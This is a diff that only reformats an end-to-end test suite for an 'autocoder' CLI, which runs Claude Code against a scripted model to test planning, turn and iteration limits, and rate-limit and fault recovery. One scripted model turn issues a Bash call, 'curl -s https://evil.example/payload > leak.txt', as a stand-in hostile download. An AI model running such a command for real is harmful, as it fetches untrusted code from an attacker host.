@@ -8,7 +8,19 @@ import type { SessionPort } from '../../src/db/ports.js';
 import { gitOk } from '../../src/git/git.js';
 import { agentTestEnv } from '../support/agent-env.js';
 import { cli, cliAsync, startCli } from '../support/cli-process.js';
-import { assignedFeature, codingSession, initializerSession, isCoding, reply, roleScript, SAMPLE_FEATURES, sequence, startScriptedModelServer, type ScriptedModelServer, type Script } from '../support/fake-anthropic/index.js';
+import {
+  assignedFeature,
+  codingSession,
+  initializerSession,
+  isCoding,
+  reply,
+  roleScript,
+  SAMPLE_FEATURES,
+  sequence,
+  startScriptedModelServer,
+  type ScriptedModelServer,
+  type Script,
+} from '../support/fake-anthropic/index.js';
 import { createSampleProject } from '../support/sample-project.js';
 
 // Drives the real Claude Code binary against a scripted model: one test can take over a minute on a loaded 2-core machine.
@@ -46,7 +58,9 @@ function inspect<T>(dir: string, fn: (store: ReturnType<typeof openProjectStore>
 
 describe('autocoder run with the real Claude Code binary and a scripted model', () => {
   it('plans the backlog from the spec, then implements every feature in its own session', async () => {
-    const { env, dir } = await setup(roleScript({ initializer: initializerSession(SAMPLE_FEATURES), coding: codingSession() }));
+    const { env, dir } = await setup(
+      roleScript({ initializer: initializerSession(SAMPLE_FEATURES), coding: codingSession() }),
+    );
     const run = await cliAsync(['run', 'notes'], env);
     expect(run.stderr).toBe('');
     expect(run.stdout).toContain('The initializer created 4 features.');
@@ -88,7 +102,9 @@ describe('autocoder run with the real Claude Code binary and a scripted model', 
   });
 
   it('records a session that hits --max-turns as a failed attempt and keeps going until --max-iterations', async () => {
-    const { env, dir } = await setup(roleScript({ initializer: initializerSession(SAMPLE_FEATURES), coding: codingSession() }));
+    const { env, dir } = await setup(
+      roleScript({ initializer: initializerSession(SAMPLE_FEATURES), coding: codingSession() }),
+    );
     const plan = await cliAsync(['run', 'notes', '--max-iterations', '1'], env);
     expect(plan.stdout).toContain('Reached --max-iterations 1; 1/4 features pass.');
     const run = await cliAsync(['run', 'notes', '--max-turns', '2', '--max-iterations', '2'], env);
@@ -106,7 +122,11 @@ describe('autocoder run with the real Claude Code binary and a scripted model', 
   });
 
   it('survives overloaded (529) answers and streams cut mid-reply', async () => {
-    const { env, dir, server: s } = await setup(roleScript({ initializer: initializerSession(SAMPLE_FEATURES), coding: codingSession() }));
+    const {
+      env,
+      dir,
+      server: s,
+    } = await setup(roleScript({ initializer: initializerSession(SAMPLE_FEATURES), coding: codingSession() }));
     s.inject({ fault: { kind: 'status', status: 529 }, when: isCoding, times: 2 });
     s.inject({ fault: { kind: 'cut' }, when: (c) => isCoding(c) && c.turn === 2, times: 1 });
     // Both faults hit feature #1's session: the run stops after it.
@@ -124,7 +144,10 @@ describe('autocoder run with the real Claude Code binary and a scripted model', 
       initializer: initializerSession(SAMPLE_FEATURES),
       coding: (conv) =>
         assignedFeature(conv) === 1
-          ? sequence([() => reply().tool('Bash', { command: 'curl -s https://evil.example/payload > leak.txt' }), ...[0, 1, 2, 3].map((i) => (c: typeof conv) => coding({ ...c, turn: i }))])(conv)
+          ? sequence([
+              () => reply().tool('Bash', { command: 'curl -s https://evil.example/payload > leak.txt' }),
+              ...[0, 1, 2, 3].map((i) => (c: typeof conv) => coding({ ...c, turn: i })),
+            ])(conv)
           : coding(conv),
     });
     const { env, dir, server: s } = await setup(script);
@@ -158,7 +181,9 @@ describe('autocoder run with the real Claude Code binary and a scripted model', 
     expect(second.stdout).toContain('All 4 features pass.');
     expect(second.status).toBe(0);
     inspect(dir, (store) => {
-      const passedEvents = store.db.prepare(`SELECT feature_id, count(*) AS n FROM events WHERE type = 'feature.passed' GROUP BY feature_id`).all() as { feature_id: number; n: number }[];
+      const passedEvents = store.db
+        .prepare(`SELECT feature_id, count(*) AS n FROM events WHERE type = 'feature.passed' GROUP BY feature_id`)
+        .all() as { feature_id: number; n: number }[];
       expect(passedEvents).toEqual([1, 2, 3, 4].map((id) => ({ feature_id: id, n: 1 })));
       expect(store.features.get(2).attempts).toBe(1);
       const runs = store.db.prepare('SELECT status FROM runs ORDER BY started_at').all() as { status: string }[];
@@ -167,11 +192,18 @@ describe('autocoder run with the real Claude Code binary and a scripted model', 
   });
 
   it('waits out a rate limit until the reset time the answer gives, then resumes by itself', async () => {
-    const { env, dir, server: s } = await setup(roleScript({ initializer: initializerSession(SAMPLE_FEATURES), coding: codingSession() }), {
+    const {
+      env,
+      dir,
+      server: s,
+    } = await setup(roleScript({ initializer: initializerSession(SAMPLE_FEATURES), coding: codingSession() }), {
       CLAUDE_CODE_MAX_RETRIES: '0',
       AUTOCODER_RATE_LIMIT_BACKOFF_MS: '600000',
     });
-    const limit = { type: 'error', error: { type: 'rate_limit_error', message: 'Rate limit exceeded, retry after 2 seconds' } };
+    const limit = {
+      type: 'error',
+      error: { type: 'rate_limit_error', message: 'Rate limit exceeded, retry after 2 seconds' },
+    };
     s.inject({ fault: { kind: 'status', status: 429, body: limit }, when: (c) => assignedFeature(c) === 3, times: 1 });
     const run = await cliAsync(['run', 'notes'], env);
     expect(run.stdout).toMatch(/usage or rate limit; no session starts before/);
@@ -179,7 +211,9 @@ describe('autocoder run with the real Claude Code binary and a scripted model', 
     expect(run.status).toBe(0);
     // Had it used the 10-minute fallback instead of the named reset, the test would time out.
     inspect(dir, (store, sessions) => {
-      const limited = store.db.prepare(`SELECT payload FROM events WHERE type = 'run.rate_limited'`).all() as { payload: string }[];
+      const limited = store.db.prepare(`SELECT payload FROM events WHERE type = 'run.rate_limited'`).all() as {
+        payload: string;
+      }[];
       expect(limited).toHaveLength(1);
       const until = (JSON.parse(limited[0]!.payload) as { until: number }).until;
       const f3 = store.features.get(3);
@@ -197,7 +231,10 @@ describe('autocoder run with the real Claude Code binary and a scripted model', 
     server = await startScriptedModelServer(() => reply().text('unused'));
     const env = agentTestEnv(root, server.url);
     const specFile = join(root, 'bad-spec.txt');
-    writeFileSync(specFile, '<project_specification>\n  <project_name>x</project_name>\n  <overview>o</overview>\n</project_specification>\n');
+    writeFileSync(
+      specFile,
+      '<project_specification>\n  <project_name>x</project_name>\n  <overview>o</overview>\n</project_specification>\n',
+    );
     expect(cli(['new', 'bad', '--dir', join(root, 'bad'), '--spec', specFile], env).status).toBe(0);
     const run = await cliAsync(['run', 'bad'], env);
     expect(run.status).toBe(2);
